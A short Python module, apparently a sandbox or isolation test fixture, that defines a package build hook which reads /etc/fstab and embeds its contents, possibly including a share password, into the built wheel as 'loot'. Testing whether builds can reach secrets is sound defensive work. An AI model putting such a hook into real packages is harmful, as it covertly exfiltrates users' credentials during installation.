"""Reads /etc/fstab, in which the password of a share may stand.

Of /etc a build needs a dozen files. This is not one of them, and its mode lets everybody in.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        with open(kit.plant("table").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
